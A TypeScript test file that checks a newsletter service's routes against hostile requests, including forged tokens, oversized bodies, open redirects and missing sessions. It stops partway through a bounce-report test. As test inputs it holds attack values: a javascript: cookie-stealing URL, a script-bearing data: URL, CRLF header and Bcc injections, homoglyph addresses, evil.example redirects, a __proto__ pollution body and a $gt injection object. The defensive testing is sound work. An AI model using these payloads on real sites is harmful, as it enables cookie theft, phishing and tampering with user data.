/**
 * The newsletter routes against hostile or careless callers, on PGlite and PostgreSQL: mangled,
 * over-long, forged, truncated and swapped link tokens; bodies of the wrong type, shape, depth or
 * size; addresses with control characters, homoglyphs or header injections; methods a route does
 * not serve; click redirects to anywhere but the signed URL; bounce reports without the server key;
 * CSV downloads without a session, for another account, or with formulas in their data. Every
 * refusal is the right status with the JSON error shape (never a 500, never a stack), and changes
 * nothing in the newsletter tables.
 */
import { randomBytes } from "node:crypto";

import { describe, expect, it, vi } from "vitest";

import { GET as EXPORT_CSV } from "@/app/api/admin/exports/[export_file]/route";
import * as sendsCsvRoute from "@/app/api/admin/newsletters/[id]/sends.csv/route";
import { GET as DELIVERIES_CSV } from "@/app/api/admin/newsletters/[id]/sends/[sendId]/deliveries.csv/route";
import { lookUpLink } from "@/app/newsletters/link-page";
import { createApiKey } from "@/server/accounts/api-keys";
import type { AdminSession } from "@/server/auth/admin-session";
import { getDb } from "@/server/db";
import type { Db } from "@/server/db/client";
import { createMemberSession } from "@/server/members/sessions";
import { clickUrl } from "@/server/newsletters/links";
import { signNewsletterToken, type TNewsletterTokenPurpose } from "@/server/newsletters/tokens";
import { call } from "@/server/testing/engagement";
import {
  insertSubscribedMembers,
  insertTestNewsletter,
  insertTestSend,
  testNewsletterKey,
} from "@/server/testing/newsletters";
import { createTestPublisher } from "@/server/testing/publishing-factories";
import { createTestStaff } from "@/server/testing/staff";

import { PUT as MEMBER_PUT, GET as MEMBER_PUT_GET } from "../member/newsletters/[slug]/route";
import { GET as MEMBER_LIST, POST as MEMBER_LIST_POST } from "../member/newsletters/route";
import * as bouncesRoute from "../v1/newsletters/bounces/route";
import * as clickRoute from "./click/[token]/route";
import * as confirmRoute from "./confirm/[token]/route";
import * as openRoute from "./open/[token]/route";
import * as subscribeRoute from "./subscribe/route";
import * as unsubscribeRoute from "./unsubscribe/[token]/route";

const session = vi.hoisted(() => ({ current: null as AdminSession | null }));
vi.mock("@/server/auth/next-auth", () => ({ getAdminSession: () => Promise.resolve(session.current) }));

type Handler = (req: Request, ctx: { params: Promise<Record<string, string>> }) => Promise<Response>;
type ErrorJson = { error: { code: string; message: string; details?: { field: string; issue: string }[] } };

const CODES: Record<number, string> = {
  400: "BAD_REQUEST",
  401: "UNAUTHORIZED",
  403: "FORBIDDEN",
  404: "NOT_FOUND",
  405: "METHOD_NOT_ALLOWED",
  406: "NOT_ACCEPTABLE",
  413: "PAYLOAD_TOO_LARGE",
  415: "UNSUPPORTED_MEDIA_TYPE",
  422: "UNPROCESSABLE",
};

/** What an answer must never show: a stack frame, a file path, the ORM or the database talking. */
const LEAK = /\bat \S+ \(|\.ts:\d+|node_modules|\/work\/|prisma|invalid input syntax|\bSQL\b|TypeError|RangeError/i;

/** `res` is the refusal `status` in the JSON error shape, without internals. */
async function expectRefused(res: Response, status: number, what = ""): Promise<ErrorJson> {
  const text = await res.text();
  expect(res.status, `${what}: ${text.slice(0, 300)}`).toBe(status);
  expect(res.headers.get("content-type"), what).toMatch(/^application\/json/);
  const body = JSON.parse(text) as ErrorJson;
  expect(body.error.code, what).toBe(CODES[status]);
  expect(typeof body.error.message, what).toBe("string");
  expect(text, what).not.toMatch(LEAK);
  return body;
}

/** Every row of the newsletter tables (and the members and mails they make), as comparable text. */
async function snapshot(db: Db): Promise<string> {
  const tables = {
    newsletters: await db.newsletter.findMany({ orderBy: { id: "asc" } }),
    subscriptions: await db.newsletterSubscription.findMany({ orderBy: { id: "asc" } }),
    suppressions: await db.emailSuppression.findMany({ orderBy: [{ accountId: "asc" }, { email: "asc" }] }),
    sends: await db.newsletterSend.findMany({ orderBy: { id: "asc" } }),
    deliveries: await db.newsletterDelivery.findMany({ orderBy: { id: "asc" } }),
    clicks: await db.newsletterClick.findMany({ orderBy: { id: "asc" } }),
    members: await db.member.findMany({ orderBy: { id: "asc" } }),
    mails: await db.outgoingEmail.findMany({ orderBy: { createdAt: "asc" }, select: { id: true } }),
  };
  return JSON.stringify(tables, (_key, value: unknown) => (typeof value === "bigint" ? `${value}n` : value));
}

/**
 * The routes' rate limits count every call by IP, and in tests every caller is the one untrusted
 * IP: a probe with dozens of calls starts each from an empty count (the memory store of
 * RATE_LIMIT_STORE=memory, as setup.integration.ts does before each test).
 */
function forgetRateLimits() {
  (globalThis as { mastheadRateLimitStore?: unknown }).mastheadRateLimitStore = undefined;
}

/** A body of 1 kB chunks without end (well, a megabyte), counting how many were read. */
function endlessStream() {
  let pulled = 0;
  const stream = new ReadableStream<Uint8Array>({
    pull(controller) {
      pulled++;
      controller.enqueue(new TextEncoder().encode(`{"a":"${"x".repeat(1000)}",`));
      if (pulled > 1000) controller.close();
    },
  });
  return Object.assign(stream, { pulled: () => pulled });
}

async function setup() {
  const db = await getDb();
  const key = testNewsletterKey();
  const account = await createTestPublisher(db, { name: "The Gazette" });
  const other = await createTestPublisher(db, { domain: null, name: "The Other Paper" });
  const daily = await insertTestNewsletter(db, account.id, { slug: "daily", name: "Daily Briefing" });
  const weekly = await insertTestNewsletter(db, account.id, { slug: "weekly", name: "Weekly" });
  const [ada, bo] = await insertSubscribedMembers(db, daily, 2, { emailPrefix: "reader" });
  const { send, deliveries } = await insertTestSend(db, daily, [ada!, bo!]);
  const adaDaily = await db.newsletterSubscription.findFirstOrThrow({ where: { memberId: ada!.id } });
  const boDaily = await db.newsletterSubscription.findFirstOrThrow({ where: { memberId: bo!.id } });
  const boWeekly = await db.newsletterSubscription.create({
    data: {
      accountId: account.id,
      newsletterId: weekly.id,
      memberId: bo!.id,
      status: "PENDING",
      consentedAt: new Date(),
      consentSource: "widget",
    },
  });
  const otherDaily = await insertTestNewsletter(db, other.id, { slug: "daily" });
  const [zed] = await insertSubscribedMembers(db, otherDaily, 1, { emailPrefix: "zed" });
  const otherSend = await insertTestSend(db, otherDaily, [zed!]);
  const zedDaily = await db.newsletterSubscription.findFirstOrThrow({ where: { memberId: zed!.id } });
  const sign = (purpose: TNewsletterTokenPurpose, id: number | bigint, accountId = account.id, k = key) =>
    signNewsletterToken(k, { accountId, purpose, id });
  const { token: memberSession } = await createMemberSession(db, { memberId: ada!.id, now: new Date(), days: 1 });
  return {
    db,
    key,
    account,
    other,
    daily,
    weekly,
    ada: ada!,
    bo: bo!,
    send,
    delivery: deliveries[0]!,
    adaDaily,
    boDaily,
    boWeekly,
    otherDaily,
    zedDaily,
    otherSend: otherSend.send,
    otherDelivery: otherSend.deliveries[0]!,
    sign,
    memberSession,
  };
}

const tokenPath = (route: string, token: string) => `/api/newsletters/${route}/${encodeURIComponent(token)}`;

function withToken(handler: Handler, method: string, route: string, token: string, init: RequestInit = {}) {
  return handler(
    new Request(`http://localhost${tokenPath(route, token)}`, {
      method,
      ...init,
      headers: { host: "localhost", ...(init.headers as Record<string, string> | undefined) },
    }),
    { params: Promise.resolve({ token }) },
  );
}

/** Tokens that no link of Masthead's ever holds, built from the fixture's real ones. */
function badTokens(f: Awaited<ReturnType<typeof setup>>, purpose: TNewsletterTokenPurpose, id: number | bigint) {
  const good = f.sign(purpose, id);
  const mac = good.split(".")[2]!;
  return {
    malformed: [
      ["bad percent-encoding", "%E0%A4%A"],
      ["bad percent-encoding in the id", `${purpose}.%ZZ.${mac}`],
      ["a lone percent sign", "%"],
      ["over-long (10 kB)", `${purpose}.${id}.${"A".repeat(10_000)}`],
      ["over-long id", `${purpose}.${"9".repeat(40)}.${mac}`],
      ["truncated", good.slice(0, -1)],
      ["truncated to the id", `${purpose}.${id}`],
      ["a Cyrillic letter in the purpose", good.replace(purpose[1]!, "\u043e")],
      ["a line break", `${good}\r\nSet-Cookie: x=1`],
      ["empty", ""],
      ["the NUL character", `${good}\u0000`],
    ] as const,
    unknown: [
      ["signed with another key", f.sign(purpose, id, f.account.id, randomBytes(32))],
      ["signed for another account", f.sign(purpose, id, f.other.id)],
      [
        "another account's row with this account's MAC",
        `${purpose}.${purpose === "delivery" ? f.otherDelivery.id : f.zedDaily.id}.${mac}`,
      ],
      [
        "another row's id with this row's MAC",
        `${purpose}.${purpose === "delivery" ? f.delivery.id + 1n : f.boDaily.id}.${mac}`,
      ],
      ["an id beyond a 32-bit integer", f.sign(purpose, 2_147_483_648)],
      ["an id beyond a 64-bit integer", f.sign(purpose, 9_999_999_999_999_999_999n)],
      ["a changed character in the MAC", `${good.slice(0, -1)}${good.endsWith("A") ? "B" : "A"}`],
    ] as const,
  };
}

describe("link tokens in the path", () => {
  it("confirm: a malformed token is 400, a forged, truncated or swapped one 404, and neither confirms", async () => {
    const f = await setup();
    const before = await snapshot(f.db);
    const { malformed, unknown } = badTokens(f, "confirm", f.boWeekly.id);
    for (const [what, token] of malformed) {
      forgetRateLimits();
      await expectRefused(await withToken(confirmRoute.POST, "POST", "confirm", token), 400, what);
    }
    for (const [what, token] of [
      ...unknown,
      ["an unsubscribe token", f.sign("unsubscribe", f.boWeekly.id)],
      ["a delivery token", f.sign("delivery", f.delivery.id)],
    ] as const) {
      forgetRateLimits();
      await expectRefused(await withToken(confirmRoute.POST, "POST", "confirm", token), 404, what);
    }
    expect(await snapshot(f.db)).toBe(before);
    // The real token still works: the refusals above were about the tokens.
    expect((await withToken(confirmRoute.POST, "POST", "confirm", f.sign("confirm", f.boWeekly.id))).status).toBe(200);
  });

  it("unsubscribe (GET and POST): a malformed token is 400, a forged one 404, and neither unsubscribes", async () => {
    const f = await setup();
    const before = await snapshot(f.db);
    for (const [purpose, id] of [
      ["unsubscribe", f.adaDaily.id],
      ["delivery", f.delivery.id],
    ] as const) {
      const { malformed, unknown } = badTokens(f, purpose, id);
      for (const method of ["GET", "POST"] as const) {
        const handler = unsubscribeRoute[method];
        const init = method === "POST" ? { body: "List-Unsubscribe=One-Click" } : {};
        for (const [what, token] of malformed) {
          forgetRateLimits();
          await expectRefused(await withToken(handler, method, "unsubscribe", token, init), 400, `${method} ${what}`);
        }
        for (const [what, token] of [...unknown, ["a confirm token", f.sign("confirm", id)]] as const) {
          forgetRateLimits();
          await expectRefused(await withToken(handler, method, "unsubscribe", token, init), 404, `${method} ${what}`);
        }
      }
    }
    // A one-click body is one short field: a large one is refused before anything is done.
    const valid = f.sign("unsubscribe", f.adaDaily.id);
    for (const [what, body] of [
      ["1 MB", "List-Unsubscribe=One-Click&".padEnd(1 << 20, "x")],
      ["an endless stream", endlessStream()],
    ] as const) {
      forgetRateLimits();
      const res = await withToken(unsubscribeRoute.POST, "POST", "unsubscribe", valid, {
        body,
        headers: { "content-type": "application/x-www-form-urlencoded" },
        duplex: "half",
      } as RequestInit);
      await expectRefused(res, 413, what);
    }
    expect(await snapshot(f.db)).toBe(before);
  });

  it("the link pages' lookup names a malformed or unknown token as such, without throwing", async () => {
    const f = await setup();
    const { malformed, unknown } = badTokens(f, "delivery", f.delivery.id);
    for (const [what, token] of malformed) {
      expect(await lookUpLink(token, ["unsubscribe", "delivery"]), what).toEqual({ ok: false, problem: "malformed" });
    }
    for (const [what, token] of unknown) {
      expect(await lookUpLink(token, ["unsubscribe", "delivery"]), what).toEqual({ ok: false, problem: "unknown" });
      expect(await lookUpLink(token.replace("delivery", "confirm"), ["confirm"]), what).toMatchObject({ ok: false });
    }
  });

  it("open: any bad token still gets the pixel and counts nothing", async () => {
    const f = await setup();
    const before = await snapshot(f.db);
    const { malformed, unknown } = badTokens(f, "delivery", f.delivery.id);
    const tokens = [...malformed, ...unknown, ["a megabyte", "delivery.1.".padEnd(1 << 20, "A")]] as const;
    for (const [what, token] of tokens.filter(([, t]) => !t.includes("\u0000"))) {
      forgetRateLimits();
      const res = await withToken(openRoute.GET, "GET", "open", token);
      expect(res.status, what).toBe(200);
      expect(res.headers.get("content-type"), what).toBe("image/gif");
    }
    // The input guard refuses text PostgreSQL cannot hold before any route sees it.
    await expectRefused(await withToken(openRoute.GET, "GET", "open", "delivery.1.\u0000"), 400, "NUL");
    expect(await snapshot(f.db)).toBe(before);
  });

  it("click: a bad token or MAC is 400 and redirects nowhere", async () => {
    const f = await setup();
    const before = await snapshot(f.db);
    const target = "https://news.example.com/story";
    const h = new URL(
      clickUrl({
        baseUrl: "http://localhost",
        key: f.key,
        accountId: f.account.id,
        deliveryId: f.delivery.id,
        url: target,
      }),
    ).searchParams.get("h")!;
    const { malformed, unknown } = badTokens(f, "delivery", f.delivery.id);
    for (const [what, token] of [...malformed, ...unknown]) {
      forgetRateLimits();
      const res = await clickRoute.GET(
        new Request(`http://localhost${tokenPath("click", token)}?u=${encodeURIComponent(target)}&h=${h}`),
        { params: Promise.resolve({ token }) },
      );
      expect(res.headers.get("location"), what).toBeNull();
      await expectRefused(res, 400, what);
    }
    expect(await snapshot(f.db)).toBe(before);
  });
});

describe("click redirects", () => {
  it("go only to the http(s) URL the delivery's MAC was made for", async () => {
    const f = await setup();
    const before = await snapshot(f.db);
    const token = f.sign("delivery", f.delivery.id);
    const macFor = (url: string, deliveryId: bigint = f.delivery.id, accountId = f.account.id) =>
      new URL(clickUrl({ baseUrl: "http://localhost", key: f.key, accountId, deliveryId, url })).searchParams.get("h")!;
    const click = (query: string) =>
      clickRoute.GET(new Request(`http://localhost${tokenPath("click", token)}?${query}`), {
        params: Promise.resolve({ token }),
      });
    const q = (u: string, h: string) => `u=${encodeURIComponent(u)}&h=${encodeURIComponent(h)}`;
    const signed = "https://news.example.com/story";
    const cases: [string, string][] = [
      [
        "javascript: (even with a MAC made for it)",
        q("javascript:alert(document.cookie)", macFor("javascript:alert(document.cookie)")),
      ],
      ["JavaScript: in mixed case with a tab", q("Java\tScript:alert(1)", macFor("Java\tScript:alert(1)"))],
      ["data:", q("data:text/html,<script>alert(1)</script>", macFor("data:text/html,<script>alert(1)</script>"))],
      ["relative", q("/admin", macFor("/admin"))],
      ["protocol-relative", q("//evil.example/phish", macFor("//evil.example/phish"))],
      ["another host with the signed URL's MAC", q("https://evil.example/story", macFor(signed))],
      ["the signed URL with a suffix", q(`${signed}.evil.example`, macFor(signed))],
      ["the signed URL with credentials", q("https://news.example.com@evil.example/story", macFor(signed))],
      ["a tampered MAC", q(signed, `${macFor(signed).slice(0, -1)}${macFor(signed).endsWith("A") ? "B" : "A"}`)],
      ["a truncated MAC", q(signed, macFor(signed).slice(0, 10))],
      ["an over-long MAC", q(signed, "A".repeat(65))],
      ["another delivery's MAC", q(signed, macFor(signed, f.delivery.id + 1n))],
      ["another account's MAC", q(signed, macFor(signed, f.delivery.id, f.other.id))],
      ["no MAC", `u=${encodeURIComponent(signed)}`],
      ["no URL", `h=${macFor(signed)}`],
      ["an over-long URL", q(`https://news.example.com/${"a".repeat(5000)}`, macFor(signed))],
      ["a line break added to the signed URL", q(`${signed}\r\nSet-Cookie: x=1`, macFor(signed))],
      ["malformed percent-encoding", `u=%E0%A4%A&h=${macFor(signed)}`],
      ["the NUL character", q(`${signed}\u0000`, macFor(signed))],
      ["the URL twice", `${q(signed, macFor(signed))}&u=${encodeURIComponent("https://evil.example/")}`],
    ];
    for (const [what, query] of cases) {
      forgetRateLimits();
      const res = await click(query);
      expect(res.headers.get("location"), what).toBeNull();
      await expectRefused(res, 400, what);
    }
    expect(await snapshot(f.db)).toBe(before);

    const ok = await click(q(signed, macFor(signed)));
    expect(ok.status).toBe(302);
    expect(ok.headers.get("location")).toBe(signed);
  });

  it("a signed URL with characters a header cannot carry redirects to its encoded form", async () => {
    const f = await setup();
    const token = f.sign("delivery", f.delivery.id);
    const urls = [
      "https://news.example.com/caf\u00e9?q=\u00fcber",
      "https://n\u00e9ws.example/\u2603",
      "https://news.example.com/story\r\nSet-Cookie: x=1",
      "https://news.example.com/a b",
    ];
    for (const url of urls) {
      forgetRateLimits();
      const h = new URL(
        clickUrl({ baseUrl: "http://localhost", key: f.key, accountId: f.account.id, deliveryId: f.delivery.id, url }),
      ).searchParams.get("h")!;
      const res = await clickRoute.GET(
        new Request(`http://localhost${tokenPath("click", token)}?u=${encodeURIComponent(url)}&h=${h}`),
        { params: Promise.resolve({ token }) },
      );
      expect(res.status, url).toBe(302);
      expect(res.headers.get("location"), url).toBe(new URL(url).href);
      expect(res.headers.get("set-cookie"), url).toBeNull();
    }
    expect(await f.db.newsletterClick.count()).toBe(urls.length);
  });
});

/** A method a route does not serve: the method, the route's handler for it, path, params, Allow. */
type MethodCase = [string, Handler, string, Record<string, string>, string];

describe("methods a route does not serve", () => {
  it("are 405 JSON with the Allow list, and change nothing", async () => {
    const f = await setup();
    const before = await snapshot(f.db);
    const unsub = f.sign("unsubscribe", f.adaDaily.id);
    const cases: MethodCase[] = [
      ...(["GET", "PUT", "PATCH", "DELETE"] as const).map(
        (m) => [m, subscribeRoute[m], "/api/newsletters/subscribe", {}, "POST, OPTIONS"] as MethodCase,
      ),
      ...(["GET", "PUT", "PATCH", "DELETE"] as const).map(
        (m) =>
          [
            m,
            confirmRoute[m],
            tokenPath("confirm", f.sign("confirm", f.boWeekly.id)),
            { token: f.sign("confirm", f.boWeekly.id) },
            "POST, OPTIONS",
          ] as MethodCase,
      ),
      ...(["PUT", "PATCH", "DELETE"] as const).map(
        (m) =>
          [
            m,
            unsubscribeRoute[m],
            tokenPath("unsubscribe", unsub),
            { token: unsub },
            "GET, POST, HEAD, OPTIONS",
          ] as MethodCase,
      ),
      ...(["POST", "PUT", "PATCH", "DELETE"] as const).map(
        (m) => [m, openRoute[m], tokenPath("open", "x"), { token: "x" }, "GET, HEAD, OPTIONS"] as MethodCase,
      ),
      ...(["POST", "PUT", "PATCH", "DELETE"] as const).map(
        (m) => [m, clickRoute[m], tokenPath("click", "x"), { token: "x" }, "GET, HEAD, OPTIONS"] as MethodCase,
      ),
      ["POST", MEMBER_LIST_POST, "/api/member/newsletters", {}, "GET, HEAD, OPTIONS"],
      ["GET", MEMBER_PUT_GET, "/api/member/newsletters/daily", { slug: "daily" }, "PUT, OPTIONS"],
      ...(["GET", "PUT", "PATCH", "DELETE"] as const).map(
        (m) => [m, bouncesRoute[m], "/api/v1/newsletters/bounces", {}, "POST, OPTIONS"] as MethodCase,
      ),
    ];
    for (const [method, handler, path, params, allow] of cases) {
      const res = await call(handler, method, path, params, method === "GET" ? undefined : { subscribed: false }, {
        "X-QT-AUTH": f.memberSession,
      });
      expect(res.headers.get("allow"), `${method} ${path}`).toBe(allow);
      await expectRefused(res, 405, `${method} ${path}`);
    }

    // OPTIONS: the browser-facing sign-up answers a preflight (never with credentials under "*"),
    // the others their Allow list.
    const preflight = await subscribeRoute.OPTIONS(
      new Request("http://localhost/api/newsletters/subscribe", {
        method: "OPTIONS",
        headers: { origin: "https://evil.example", "access-control-request-method": "POST" },
      }),
      { params: Promise.resolve({}) },
    );
    expect(preflight.status).toBe(204);
    expect(preflight.headers.get("access-control-allow-credentials")).toBeNull();
    expect(preflight.headers.get("access-control-allow-headers") ?? "").not.toMatch(/x-subauth/i);
    const options = await confirmRoute.OPTIONS(new Request("http://localhost/x", { method: "OPTIONS" }), {
      params: Promise.resolve({}),
    });
    expect([options.status, options.headers.get("allow")]).toEqual([204, "POST, OPTIONS"]);

    // A JSON route asked for something else: 406, still as JSON.
    for (const [what, handler, path, accept] of [
      ["sign-up as HTML", subscribeRoute.POST, "/api/newsletters/subscribe", "text/html"],
      ["bounces as an image", bouncesRoute.POST, "/api/v1/newsletters/bounces", "image/png"],
      ["the member list with JSON ruled out", MEMBER_LIST, "/api/member/newsletters", "application/json;q=0"],
    ] as const) {
      forgetRateLimits();
      const res = await call(
        handler,
        what.startsWith("the member") ? "GET" : "POST",
        path,
        {},
        what.startsWith("the member") ? undefined : {},
        {
          accept,
          "X-QT-AUTH": f.memberSession,
        },
      );
      await expectRefused(res, 406, what);
    }
    expect(await snapshot(f.db)).toBe(before);
  });
});

describe("the public sign-up's body", () => {
  const subscribe = (body: BodyInit | null, headers: Record<string, string> = {}) => {
    forgetRateLimits();
    return subscribeRoute.POST(
      new Request("http://localhost/api/newsletters/subscribe", {
        method: "POST",
        headers,
        body,
        duplex: "half",
      } as RequestInit),
      { params: Promise.resolve({}) },
    );
  };
  const json = (value: unknown) => subscribe(JSON.stringify(value), { "content-type": "application/json" });

  it("of another type is 415, malformed or not an object 400, too large 413", async () => {
    const f = await setup();
    const before = await snapshot(f.db);
    const good = JSON.stringify({ account_id: f.account.id, email: "new@example.com", newsletters: ["daily"] });
    const typed: [string, BodyInit, Record<string, string>, number][] = [
      ["text/plain", good, { "content-type": "text/plain" }, 415],
      [
        "a form",
        `account_id=${f.account.id}&email=new@example.com&newsletters=daily`,
        { "content-type": "application/x-www-form-urlencoded" },
        415,
      ],
      ["multipart", "--x\r\n\r\n--x--", { "content-type": "multipart/form-data; boundary=x" }, 415],
      ["no content type", good, {}, 415],
      ["application/xml", `<a>${good}</a>`, { "content-type": "application/xml" }, 415],
      ["malformed JSON", "{not json", { "content-type": "application/json" }, 400],
      ["JSON cut short", good.slice(0, -1), { "content-type": "application/json" }, 400],
      ["trailing garbage after the JSON", `${good}}`, { "content-type": "application/json" }, 400],
      ["an array", "[]", { "content-type": "application/json" }, 400],
      ["a string", '"daily"', { "content-type": "application/json" }, 400],
      ["null", "null", { "content-type": "application/json" }, 400],
      ["a number", "42", { "content-type": "application/json" }, 400],
      ["nested 2,000 deep", `${"[".repeat(2000)}${"]".repeat(2000)}`, { "content-type": "application/json" }, 400],
      [
        "nested 10,000 deep (over the limit)",
        `${'{"a":'.repeat(10_000)}1${"}".repeat(10_000)}`,
        { "content-type": "application/json" },
        413,
      ],
      [
        "5 kB",
        JSON.stringify({
          account_id: f.account.id,
          email: "new@example.com",
          newsletters: ["daily"],
          name: "x".repeat(5000),
        }),
        { "content-type": "application/json" },
        413,
      ],
      [
        "a lying Content-Length",
        good.padEnd(8000, " "),
        { "content-type": "application/json", "content-length": "10" },
        413,
      ],
    ];
    for (const [what, body, headers, status] of typed)
      await expectRefused(await subscribe(body, headers), status, what);

    // A stream without a Content-Length is cut off at the limit.
    const endless = endlessStream();
    await expectRefused(await subscribe(endless, { "content-type": "application/json" }), 413, "a stream");
    expect(endless.pulled()).toBeLessThan(20);
    expect(await snapshot(f.db)).toBe(before);
  });

  it("with a bad address, name or list is 400 and writes nothing", async () => {
    const f = await setup();
    const before = await snapshot(f.db);
    const base = { account_id: f.account.id, email: "new@example.com", newsletters: ["daily"] };
    const cases: [string, unknown][] = [
      ["a line break in the address", { ...base, email: "new@example.com\r\nBcc: all@example.com" }],
      ["a line feed inside the address", { ...base, email: "new\n@example.com" }],
      ["a bell in the address", { ...base, email: "ne\u0007w@example.com" }],
      ["a tab in the address", { ...base, email: "ne\tw@example.com" }],
      ["DEL in the address", { ...base, email: "new\u007f@example.com" }],
      ["a 10 kB address", { ...base, email: `${"a".repeat(3000)}@example.com` }],
      ["a Cyrillic homoglyph in the address", { ...base, email: "n\u0435w@example.com" }],
      ["a homoglyph domain", { ...base, email: "new@\u0435xample.com" }],
      ["a display name with the address", { ...base, email: "Eve <eve@example.com>" }],
      ["two addresses", { ...base, email: "new@example.com, eve@example.com" }],
      ["an address as an array", { ...base, email: ["new@example.com"] }],
      ["a line break in the name", { ...base, name: "Ada\r\nBcc: all@example.com" }],
      ["a control character in the name", { ...base, name: "Ada\u001b[31m" }],
      ["a name over 200 characters", { ...base, name: "\u00e9".repeat(300) }],
      ["a line break in a slug", { ...base, newsletters: ["daily\r\nX-Evil: 1"] }],
      ["a homoglyph slug", { ...base, newsletters: ["d\u0430ily"] }],
      ["21 newsletters", { ...base, newsletters: Array.from({ length: 21 }, (_, i) => `n${i}`) }],
      ["a fractional account", { ...base, account_id: 1.5 }],
      ["a negative account", { ...base, account_id: -1 }],
      ["an account beyond 32 bits", { ...base, account_id: 2 ** 31 }],
      ["an account as an exponent", { ...base, account_id: "1e3" }],
      ["an account as an object", { ...base, account_id: { $gt: 0 } }],
      ["the NUL character in the name", { ...base, name: "Ada\u0000" }],
      ["an unpaired surrogate in the address", { ...base, email: "new\ud800@example.com" }],
    ];
    for (const [what, body] of cases) await expectRefused(await json(body), 400, what);
    expect(await snapshot(f.db)).toBe(before);
  });

  it("ignores fields it does not know: they cannot confirm, verify or pick the consent source", async () => {
    const f = await setup();
    const known = { account_id: f.account.id, email: "new@example.com", newsletters: ["daily"] };
    const extra = {
      status: "ACTIVE",
      confirmed: true,
      emailVerified: true,
      email_verified: true,
      consentSource: "dashboard",
      source: "dashboard",
      constructor: { prototype: { isAdmin: true } },
    };
    // "__proto__" as JSON text: an own key after JSON.parse, which must not reach any prototype.
    const body = `${JSON.stringify({ ...known, ...extra }).slice(0, -1)},"__proto__":{"isAdmin":true}}`;
    const res = await subscribe(body, { "content-type": "application/json" });
    expect(res.status).toBe(202);
    const member = await f.db.member.findFirstOrThrow({ where: { accountId: f.account.id, email: "new@example.com" } });
    expect(member.emailVerified).toBe(false);
    expect(await f.db.newsletterSubscription.findFirstOrThrow({ where: { memberId: member.id } })).toMatchObject({
      status: "PENDING",
      consentSource: "widget",
      confirmedAt: null,
    });
    expect(({} as { isAdmin?: boolean }).isAdmin).toBeUndefined();
  });

  it("for another account's newsletter is 404 and writes nothing", async () => {
    const f = await setup();
    const other = await createTestPublisher(f.db, { domain: null });
    await insertTestNewsletter(f.db, other.id, { slug: "only-there" });
    const before = await snapshot(f.db);
    await expectRefused(
      await json({ account_id: f.account.id, email: "new@example.com", newsletters: ["only-there"] }),
      404,
      "a slug of another account",
    );
    expect(await snapshot(f.db)).toBe(before);
  });
});

describe("the member API", () => {
  it("refuses a missing or forged session, bad slugs and bad bodies, changing nothing", async () => {
    const f = await setup();
    await insertTestNewsletter(f.db, f.other.id, { slug: "only-elsewhere" });
    const before = await snapshot(f.db);
    const put = (slug: string, body: BodyInit | null, headers: Record<string, string>) => {
      forgetRateLimits();
      return MEMBER_PUT(
        new Request(`http://localhost/api/member/newsletters/${encodeURIComponent(slug)}`, {
          method: "PUT",
          headers: { host: "localhost", "X-QT-AUTH": f.memberSession, ...headers },
          body,
        }),
        { params: Promise.resolve({ slug }) },
      );
    };
    const ct = { "content-type": "application/json" };
    const off = JSON.stringify({ subscribed: false });
    const cases: [string, Response, number][] = [
      ["no session", await put("daily", off, { ...ct, "X-QT-AUTH": "" }), 401],
      ["a forged session", await put("daily", off, { ...ct, "X-QT-AUTH": `${f.memberSession.slice(0, -2)}xx` }), 401],
      ["a 10 kB session", await put("daily", off, { ...ct, "X-QT-AUTH": "a".repeat(10_000) }), 401],
      ["bad percent-encoding in the slug", await put("%E0%A4%A", off, ct), 400],
      ["an over-long slug", await put("a".repeat(10_000), off, ct), 400],
      ["a line break in the slug", await put("daily\r\n", off, ct), 400],
      ["a homoglyph slug", await put("d\u0430ily", off, ct), 400],
      ["an unknown slug", await put("nowhere", off, ct), 404],
      ["a slug only another account has", await put("only-elsewhere", off, ct), 404],
      ["text/plain", await put("daily", off, { "content-type": "text/plain" }), 415],
      ["a form", await put("daily", "subscribed=false", { "content-type": "application/x-www-form-urlencoded" }), 415],
      ["malformed JSON", await put("daily", "{", ct), 400],
      ["an array", await put("daily", "[false]", ct), 400],
      ["a string", await put("daily", '"false"', ct), 400],
      ["null", await put("daily", "null", ct), 400],
      ["subscribed as a string", await put("daily", JSON.stringify({ subscribed: "false" }), ct), 400],
      ["subscribed as 0", await put("daily", JSON.stringify({ subscribed: 0 }), ct), 400],
      ["nested 10,000 deep", await put("daily", `${"[".repeat(10_000)}${"]".repeat(10_000)}`, ct), 413],
      ["nested 500 deep", await put("daily", `${"[".repeat(500)}${"]".repeat(500)}`, ct), 400],
      ["over 1 kB", await put("daily", JSON.stringify({ subscribed: false, pad: "x".repeat(2000) }), ct), 413],
    ];
    for (const [what, res, status] of cases) await expectRefused(res, status, what);

    // A session of this account on another publisher's host is no session there.
    await createTestPublisher(f.db, { domain: "other.example" });
    await expectRefused(await put("daily", off, { ...ct, host: "other.example" }), 401, "another publisher's host");

    const list = MEMBER_LIST(
      new Request("http://localhost/api/member/newsletters", { headers: { host: "localhost", "X-QT-AUTH": "nope" } }),
      { params: Promise.resolve({}) },
    );
    await expectRefused(await list, 401, "the list without a session");
    expect(await snapshot(f.db)).toBe(before);
  });

  it("ignores fields it does not know: an unverified reader stays pending", async () => {
    const f = await setup();
    const carol = await f.db.member.create({
      data: {
        accountId: f.account.id,
        name: "Carol",
        email: "carol@example.com",
        emailVerified: false,
        passwordHash: "-",
      },
    });
    const { token } = await createMemberSession(f.db, { memberId: carol.id, now: new Date(), days: 1 });
    const res = await call(
      MEMBER_PUT,
      "PUT",
      "/api/member/newsletters/weekly",
      { slug: "weekly" },
      { subscribed: true, status: "active", emailVerified: true, source: "dashboard", memberId: f.ada.id },
      { "X-QT-AUTH": token },
    );
    expect(res.status).toBe(200);
    const row = await f.db.newsletterSubscription.findFirstOrThrow({
      where: { newsletterId: f.weekly.id, memberId: carol.id },
    });
    expect(row).toMatchObject({ status: "PENDING", consentSource: "self_service" });
    expect(await f.db.newsletterSubscription.count({ where: { memberId: f.ada.id, newsletterId: f.weekly.id } })).toBe(
      0,
    );
  });
});

describe("bounce reports", () => {
  it("without the right server key are 401, and malformed ones 400/413/415, changing nothing", async () => {
    const f = await setup();
    const { key } = await createApiKey(f.db, { accountId: f.account.id, kind: "SERVER", name: "mailer" });
    const { key: otherKey } = await createApiKey(f.db, { accountId: f.other.id, kind: "SERVER", name: "mailer" });
    const { key: clientKey } = await createApiKey(f.db, { accountId: f.account.id, kind: "CLIENT", name: "site" });
    const before = await snapshot(f.db);
    const report = (body: BodyInit | null, headers: Record<string, string>) => {
      forgetRateLimits();
      return bouncesRoute.POST(
        new Request("http://localhost/api/v1/newsletters/bounces", {
          method: "POST",
          headers: { host: "localhost", ...headers },
          body,
        }),
        { params: Promise.resolve({}) },
      );
    };
    const ct = { "content-type": "application/json" };
